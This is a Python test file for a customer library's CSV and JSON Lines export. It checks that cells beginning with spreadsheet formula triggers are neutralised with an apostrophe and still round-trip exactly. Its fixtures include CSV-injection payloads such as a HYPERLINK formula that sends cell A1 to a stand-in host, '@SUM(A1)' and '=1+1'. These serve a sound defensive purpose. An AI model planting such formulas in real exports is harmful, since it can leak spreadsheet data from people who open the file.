"""T16, rule C8, d5: exports cannot run as spreadsheet formulas and round-trip every value.

CSV: no cell starts with ``= + - @``, TAB, CR or LF; ``csv.reader`` gives back every value after
removing the one leading apostrophe the export adds to such cells and to cells that start with an
apostrophe themselves (the documented rule, reversible for every value); quoting
follows RFC 4180 (commas, quotes and line breaks inside cells survive); the header does not start
with ``ID`` (a file starting so opens as SYLK in Excel). JSON Lines: every value exactly.

Two levels: the exporter on its own (``customerkit.export.write_customers``) with any text in
every column, including values the services would refuse (a cell starting with TAB, CR or LF
can only be tested there, since every text field is trimmed and single-line); and the book's
``customers.export`` on every backend with text the services accept.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from datetime import UTC, datetime, timedelta, timezone
from typing import Any

import attrs
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

import customerkit as ck
from customerkit.export import COLUMNS, ExportRecord, record_of, write_customers, write_records
from customerkit.testing import FakeClock

# Among the slowest files: `-m "not slow"` leaves them out of a quick loop; CI runs them.
pytestmark = pytest.mark.slow

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
TEXT_COLUMNS = (
    "company_name",
    "customer_number",
    "address_line1",
    "address_line2",
    "city",
    "state",
    "postal_code",
    "country",
    "email",
    "phone",
    "phone_extension",
    "fax",
    "company_type",
    "category",
    "username",
)
CONTACT_COLUMNS = ("contact_names", "contact_emails", "contact_phones")
WHEN = datetime(2026, 1, 15, 9, 0, tzinfo=UTC)


def unneutralise(cell: str) -> str:
    """The documented reverse: remove one leading apostrophe.

    The export prefixes cells starting with a trigger *or an apostrophe*, so this gives back
    every value, those that start with an apostrophe themselves included.
    """
    return cell[1:] if cell.startswith("'") else cell


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS), f"cell {cell[:40]!r} starts with a trigger"


#: Any text, with formula triggers, quotes, separators and line breaks made likely at the start.
cells = st.one_of(
    st.text(max_size=30),
    st.builds(
        lambda trigger, rest: trigger + rest,
        st.sampled_from([*TRIGGERS, "'", '"', ",", ";", " ", "'=", "''"]),
        st.text(max_size=20),
    ),
)


def _customer(values: dict[str, str], extra: dict[str, str], staff: tuple[str, ...]) -> ck.Customer:
    return ck.Customer(
        id="c1",
        location_id="loc-1",
        kind=ck.CustomerKind.LOCAL,
        created_at=WHEN,
        updated_at=WHEN,
        extra=extra,
        assigned_staff=staff,
        **values,
    )


def _contact(contact_id: str, first: str, last: str, email: str, phone: str) -> ck.Contact:
    return ck.Contact(
        id=contact_id,
        customer_id="c1",
        first_name=first,
        last_name=last,
        email=email,
        phone=phone,
        created_at=WHEN,
        updated_at=WHEN,
    )


@settings(max_examples=500)  # T16 asks for 500; the exporter alone is fast (about 1 s)
@given(
    values=st.fixed_dictionaries(dict.fromkeys(TEXT_COLUMNS, cells)),
    extra=st.dictionaries(cells, cells, max_size=3),
    staff=st.lists(cells, max_size=2).map(tuple),
    people=st.lists(st.tuples(cells, cells, cells, cells), max_size=3),
)
@example(
    values={**dict.fromkeys(TEXT_COLUMNS, ""), "company_name": '=HYPERLINK("http://x?"&A1,"click")',
            "city": "\t=1", "state": "\r=1", "country": "\n=1", "address_line1": "a,b",
            "address_line2": 'he said "hi"', "postal_code": "line1\nline2", "email": "@SUM(A1)",
            "phone": "-1", "fax": "+1", "customer_number": "=1+1"},
    extra={"=k": "=v"},
    staff=("@u",),
    people=[("=Ann", "Lee", "-x@example.com", "+1 303")],
)  # fmt: skip
def test_t16_exporter_csv_neutralises_and_round_trips(
    values: dict[str, str],
    extra: dict[str, str],
    staff: tuple[str, ...],
    people: list[tuple[str, str, str, str]],
) -> None:
    """No cell starts with a trigger; every value comes back after removing the apostrophe."""
    customer = _customer(values, extra, staff)
    contacts = [
        _contact(f"k{i}", first, last, email, phone)
        for i, (first, last, email, phone) in enumerate(people)
    ]
    out = io.StringIO(newline="")
    assert write_customers(out, [(customer, contacts)], format="csv", total=1) == 1
    rows = read_csv(out.getvalue())
    assert rows[0] == list(COLUMNS)
    assert not out.getvalue().startswith("ID"), "a file starting with ID opens as SYLK"
    assert len(rows) == 2, "one header and one row: line breaks stay inside quoted cells"
    assert_no_formula(rows)
    row = dict(zip(rows[0], map(unneutralise, rows[1]), strict=True))
    for column in TEXT_COLUMNS:
        assert row[column] == (values[column] or ""), column
    assert row["extra"] == (json.dumps(extra, ensure_ascii=False, sort_keys=True) if extra else "")
    assert row["assigned_staff"] == "; ".join(staff)
    live = [k for k in contacts if k.is_live]
    joined = {
        "contact_names": "; ".join(k.full_name for k in live),
        "contact_emails": "; ".join(k.email for k in live),
        "contact_phones": "; ".join(k.phone for k in live),
    }
    for column, text in joined.items():
        assert row[column] == text, column


@settings(max_examples=500)  # as above
@given(
    values=st.fixed_dictionaries(dict.fromkeys(TEXT_COLUMNS, cells)),
    extra=st.dictionaries(cells, cells, max_size=3),
)
def test_t16_exporter_jsonl_round_trips_exactly(
    values: dict[str, str], extra: dict[str, str]
) -> None:
    """JSON Lines keeps every value exactly: no apostrophes, no trimming."""
    customer = _customer(values, extra, ())
    out = io.StringIO(newline="")
    write_customers(out, [(customer, [])], format="jsonl", total=1)
    lines = out.getvalue().split("\n")
    assert lines[-1] == "", "every line ends with a newline"
    assert len(lines) == 2, "one line per customer, whatever the values hold"
    row = json.loads(lines[0])
    for column in TEXT_COLUMNS:
        assert row[column] == (values[column] or ""), column
    assert row["extra"] == extra


@pytest.mark.parametrize("value", ["'=1+1", "'-5", "'@home", "'plain", "''"])
def test_regression_value_starting_with_an_apostrophe_reads_back(value: str) -> None:
    """A value that itself starts with ``'`` keeps it: the export adds one more (regression).

    It used to be left as it was, so removing "the" apostrophe took the value's own; spreadsheets
    hide one leading apostrophe as well.
    """
    customer = _customer({"company_name": value}, {}, ())
    out = io.StringIO(newline="")
    write_customers(out, [(customer, [])], format="csv", total=1)
    header, row = read_csv(out.getvalue())
    cell = dict(zip(header, row, strict=True))["company_name"]
    assert cell == "'" + value
    assert unneutralise(cell) == value


# -- through the book, on every backend ----------------------------------------------------------

#: Text the services accept in a one-line field: no controls, no surrogates, 1-40 characters.
accepted_text = st.builds(
    lambda lead, rest: (lead + rest).strip(),
    st.sampled_from(["", "=", "+", "-", "@", "'", '"', "=HYPERLINK(", "-1+", "@SUM("]),
    st.text(st.characters(blacklist_categories=("Cc", "Cs")), min_size=1, max_size=40),
).filter(lambda text: 0 < len(text) <= 100)

#: SQL backends make a database row per example; memory explores the most.
EXAMPLES = {"memory": None, "sqlite": 60, "postgresql": 40}


def _backend(request: pytest.FixtureRequest) -> str:
    callspec = getattr(request.node, "callspec", None)
    return str(callspec.params.get("make_book", "memory")) if callspec else "memory"


def test_c8_book_export_is_safe_and_round_trips(
    make_book: Callable[[FakeClock], ck.Book], request: pytest.FixtureRequest
) -> None:
    """Rule C8 on every backend: stored text comes back from CSV (past the apostrophe) and JSONL."""
    book = make_book(FakeClock())
    serial = [0]
    examples = EXAMPLES[_backend(request)]
    overrides: dict[str, Any] = {
        "suppress_health_check": [HealthCheck.function_scoped_fixture, HealthCheck.too_slow]
    }
    if examples is not None:
        overrides["max_examples"] = min(examples, settings.default.max_examples)

    @settings(**overrides)
    @given(name=accepted_text, city=accepted_text, line=accepted_text, first=accepted_text)
    def check(name: str, city: str, line: str, first: str) -> None:
        serial[0] += 1
        actor = ck.Actor(user_id="u", role=ck.Role.DEALER_ADMIN, location_id=f"x-{serial[0]}")
        try:
            customer = book.customers.create(
                ck.NewCustomer(
                    company_name=name,
                    customer_number="N-1",
                    city=city,
                    address_line1=line,
                    extra={"note": line},
                ),
                actor=actor,
            )
            book.contacts.add(
                customer.id, ck.NewContact(first_name=first, last_name=""), actor=actor
            )
        except ck.ValidationError:
            return  # e.g. a name of combining marks only: refusals are test_hostile's business
        out = io.StringIO(newline="")
        assert book.customers.export(out, actor=actor, format="csv") == 1
        rows = read_csv(out.getvalue())
        assert_no_formula(rows)
        row = dict(zip(rows[0], map(unneutralise, rows[1]), strict=True))
        assert (row["company_name"], row["city"], row["address_line1"]) == (name, city, line)
        assert json.loads(row["extra"]) == {"note": line}
        assert row["contact_names"] == first
        out = io.StringIO(newline="")
        assert book.customers.export(out, actor=actor, format="jsonl") == 1
        [data] = [json.loads(text) for text in out.getvalue().splitlines()]
        assert (data["company_name"], data["city"], data["address_line1"]) == (name, city, line)
        assert data["contact_names"] == [first]

    check()


# -- the fast paths give what the plain rules give -------------------------------------------
#
# The exporter builds rows with shortcuts (one regular-expression search per row, records read
# straight from database rows, timestamps rewritten as text). These tests hold them to a plain
# reference: the exporter as it was before the shortcuts, one type check and one ``startswith``
# per cell, written out again here so a change to the module cannot change the reference too.

REFERENCE_COLUMNS = (
    "id", "location_id", "kind", "company_name", "customer_number", "address_line1",
    "address_line2", "city", "state", "postal_code", "country", "email", "phone",
    "phone_extension", "fax", "alternate_emails", "alternate_phones", "company_type",
    "category", "username", "extra", "assigned_staff", "source", "source_external_id",
    "created_at", "updated_at", "version", "contact_names", "contact_emails", "contact_phones",
)  # fmt: skip


def reference_row(customer: ck.Customer, contacts: list[ck.Contact]) -> dict[str, Any]:
    live = [contact for contact in contacts if contact.is_live]
    source = customer.source
    return {
        **{column: getattr(customer, column) for column in TEXT_COLUMNS},
        "id": customer.id,
        "location_id": customer.location_id,
        "kind": customer.kind.value,
        "alternate_emails": list(customer.alternate_emails),
        "alternate_phones": list(customer.alternate_phones),
        "company_type": customer.company_type or "",
        "category": customer.category or "",
        "username": customer.username or "",
        "assigned_staff": list(customer.assigned_staff),
        "source": source.source if source else "",
        "source_external_id": source.external_id if source else "",
        "created_at": customer.created_at.isoformat(),
        "updated_at": customer.updated_at.isoformat(),
        "version": customer.version,
        "contact_names": [contact.full_name for contact in live],
        "contact_emails": [contact.email for contact in live],
        "contact_phones": [contact.phone for contact in live],
        "extra": dict(customer.extra),
    }


def reference_cell(value: Any) -> str:
    if isinstance(value, dict):
        text = json.dumps(value, ensure_ascii=False, sort_keys=True) if value else ""
    elif isinstance(value, list):
        text = "; ".join(value)
    else:
        text = str(value)
    return "'" + text if text.startswith((*TRIGGERS, "'")) else text


def reference_export(rows: list[tuple[ck.Customer, list[ck.Contact]]], format: str) -> str:  # noqa: A002
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    if format == "csv":
        writer.writerow(REFERENCE_COLUMNS)
    for customer, contacts in rows:
        row = reference_row(customer, contacts)
        if format == "csv":
            writer.writerow([reference_cell(row[column]) for column in REFERENCE_COLUMNS])
        else:
            out.write(json.dumps(row, ensure_ascii=False, sort_keys=True) + "\n")
    return out.getvalue()


def exported(rows: list[tuple[ck.Customer, list[ck.Contact]]], format: str) -> str:  # noqa: A002
    out = io.StringIO(newline="")
    write_customers(out, rows, format=format, total=None)
    return out.getvalue()


#: Text that trips the shortcuts: triggers anywhere, the row search's separator (0x1F) before a
#: trigger, apostrophes, whitespace a contact's full name strips, "$" keys for the JSON tags.
tricky = st.one_of(
    cells,
    st.builds(
        lambda lead, rest: lead + rest,
        st.sampled_from(["\x1f", "\x1f=", "a\x1f+b", "=\x1f", "$tuple", "$dict", " ", "\u2003"]),
        st.text(max_size=10),
    ),
)
zones = st.sampled_from([UTC, timezone(timedelta(hours=-5)), timezone(timedelta(0), "Z")])
moments = st.datetimes(timezones=zones)


@st.composite
def customers_with_contacts(draw: st.DrawFn) -> tuple[ck.Customer, list[ck.Contact]]:
    created = draw(moments)
    source = draw(
        st.none()
        | st.builds(ck.SourceLink, source=tricky, external_id=tricky, last_synced_at=moments)
    )
    customer = ck.Customer(
        id=draw(tricky),
        location_id=draw(tricky),
        kind=draw(st.sampled_from(ck.CustomerKind)),
        **{column: draw(tricky) for column in TEXT_COLUMNS if column not in OPTIONAL_COLUMNS},
        **{column: draw(st.none() | tricky) for column in OPTIONAL_COLUMNS},
        alternate_emails=draw(st.lists(tricky, max_size=2)),
        alternate_phones=draw(st.lists(tricky, max_size=2)),
        assigned_staff=tuple(draw(st.lists(tricky, max_size=2))),
        source=source,
        extra=draw(st.dictionaries(tricky, tricky, max_size=3)),
        created_at=created,
        # The same object (a new customer) or another moment (a changed one).
        updated_at=draw(st.just(created) | moments),
        version=draw(st.integers(min_value=-2, max_value=10**6)),
    )
    contacts = [
        ck.Contact(
            id=f"k{i}",
            customer_id=customer.id,
            first_name=draw(tricky),
            last_name=draw(tricky),
            email=draw(tricky),
            phone=draw(tricky),
            status=draw(st.sampled_from(ck.RecordStatus)),
            created_at=WHEN,
            updated_at=WHEN,
        )
        for i in range(draw(st.integers(0, 3)))
    ]
    return customer, contacts


OPTIONAL_COLUMNS = ("company_type", "category", "username")


@settings(max_examples=500)
@given(
    rows=st.lists(customers_with_contacts(), max_size=4), format=st.sampled_from(["csv", "jsonl"])
)
def test_exporter_writes_what_the_plain_rules_write(
    rows: list[tuple[ck.Customer, list[ck.Contact]]],
    format: str,  # noqa: A002
) -> None:
    """Byte for byte: the fast CSV and JSON Lines writers against the reference."""
    assert exported(rows, format) == reference_export(rows, format)


@pytest.mark.parametrize("lead", [*TRIGGERS, "'", "\x1f", "\x1f=", "x\x1f="])
def test_one_prefixed_cell_in_a_plain_row_is_neutralised(lead: str) -> None:
    """Each column alone starting with each prefix, the rest plain: what the search must find."""
    plain = dict.fromkeys(TEXT_COLUMNS, "x")
    rows = [(_customer({**plain, column: lead + "x"}, {}, ()), []) for column in TEXT_COLUMNS]
    rows.append((_customer(plain, {}, (lead + "s", "t")), []))
    rows.append((_customer(plain, {lead: "v"}, ()), []))
    person = _contact("k1", "Ann", "Lee", "a@example.com", "1")
    for field in ("first_name", "email", "phone"):
        rows.append((_customer(plain, {}, ()), [attrs.evolve(person, **{field: lead + "y"})]))
    assert exported(rows, "csv") == reference_export(rows, "csv")


@pytest.mark.parametrize("format", ["csv", "jsonl"])
def test_exporter_pages_and_progress_match_the_reference(format: str) -> None:  # noqa: A002
    """Over several pages: the same bytes, and progress every 1,000 rows and at the end."""
    customer, contacts = _customer({"company_name": "=A"}, {"k": "v"}, ("@s",)), []
    rows = [(attrs.evolve(customer, id=f"c{i:05d}"), contacts) for i in range(2345)]
    out = io.StringIO(newline="")
    calls: list[tuple[int, int | None]] = []
    written = write_customers(
        out, rows, format=format, total=2345, progress=lambda d, t: calls.append((d, t))
    )
    assert written == 2345
    assert out.getvalue() == reference_export(rows, format)
    assert calls == [(1000, 2345), (2000, 2345), (2345, 2345)]


@given(moment=st.datetimes())
@example(moment=WHEN.replace(tzinfo=None))
@example(moment=WHEN.replace(tzinfo=None, microsecond=1))
def test_sqlite_timestamps_read_as_text_match_the_parsed_value(moment: datetime) -> None:
    """The SQL export rewrites SQLite's stored timestamp text (naive UTC) instead of parsing it."""
    from customerkit.backends.sqlalchemy._export_rows import _sqlite_time

    expected = moment.replace(tzinfo=UTC).isoformat()
    assert _sqlite_time(moment.isoformat(" ", "microseconds")) == expected  # as stored
    assert _sqlite_time(moment.isoformat()) == expected  # any other text is parsed
    assert _sqlite_time(moment.isoformat() + "+00:00") == expected


def _hostile_book(book: ck.Book, clock: FakeClock) -> ck.Actor:
    """Customers of one location with every kind of exported value, as the services store them."""
    admin = ck.Actor(user_id="admin", role=ck.Role.DEALER_ADMIN, location_id="loc-1")
    for user_id in ("=u1", "-u2"):
        user = ck.User(
            id=user_id, name="Staff", email="s@example.com", role=ck.Role.STAFF, location_id="loc-1"
        )
        book.users.add(user, actor=admin)
    drafts = [
        ck.NewCustomer(
            company_name=f"{lead}Company {i}",
            customer_number=f"{lead}N-{i}",
            city=f"{lead}Denver",
            address_line1='He said "hi", twice',
            email=f"c{i}@example.com",
            phone=f"+1 303 555 01{i:02d}" if i % 2 else f"303-555-01{i:02d}",
            extra={"$tuple": f"{lead}x", "note": "zürich"} if i % 3 else {},
            username=f"user{i}" if i % 4 == 0 else None,
            password="a long enough password" if i % 4 == 0 else None,
        )
        for i, lead in enumerate(["", "=", "+", "-", "@", "'", "日本", ","] * 3)
    ]
    made = book.customers.create_many(drafts, actor=admin)
    clock.advance(microseconds=1500)  # timestamps with and without microseconds
    for i, customer in enumerate(made[:8]):
        for first in ("=Ann", "Bob")[: i % 3]:
            contact = book.contacts.add(
                customer.id,
                ck.NewContact(first_name=first, last_name="O'Neil", phone="+1 303 555 0199"),
                actor=admin,
            )
            clock.advance(seconds=1)
        if i == 2:
            book.contacts.delete(contact.id, actor=admin)
    book.customers.assign_staff(made[1].id, ["=u1", "-u2"], actor=admin)
    book.customers.update(made[2].id, {"city": "=Aurora", "extra": {"a": "=b"}}, actor=admin)
    book.customers.merge(made[3].id, [made[5].id], actor=admin)  # alternate email and phone
    book.customers.delete(made[6].id, actor=admin)
    book.sources.register(
        ck.InMemorySource(
            "=dms",
            [
                ck.SourceRecord(
                    external_id="-X1", data={"company_name": "@Src", "customer_number": "=S1"}
                )
            ],
        )
    )
    book.sources.enable("=dms", location_id="loc-1", actor=admin)
    book.sources.import_customer("=dms", "-X1", actor=admin)
    return admin


def test_backend_export_records_match_their_customers_and_contacts(
    make_book: Callable[[FakeClock], ck.Book],
) -> None:
    """Each backend's export records write what its customers and contacts write (rule C8).

    The SQL backends fill the records from rows without making ``Customer`` objects; here they
    are checked against the records of the customers the same backend reads.
    """
    clock = FakeClock()
    book = make_book(clock)
    admin = _hostile_book(book, clock)
    with book.store.unit_of_work() as uow:
        customers = list(uow.customers.iter_location("loc-1"))
        chosen = [customers[0].id, customers[-1].id, "no-such-id", customers[0].id]
        for ids in (None, chosen):
            wanted = customers if ids is None else [c for c in customers if c.id in ids]
            expected = [record_of(c, uow.contacts.for_customer(c.id)) for c in wanted]
            records = list(uow.customers.export_records("loc-1", ids=ids))
            for format in ("csv", "jsonl"):  # noqa: A001
                assert written(records, format) == written(expected, format)
    assert len(customers) == 23  # 24 made, one merged away, one deleted, one imported
    out = io.StringIO(newline="")
    assert book.customers.export(out, actor=admin) == len(customers)


def written(records: list[ExportRecord], format: str) -> str:  # noqa: A002
    out = io.StringIO(newline="")
    write_records(out, records, format=format, total=None)
    return out.getvalue()
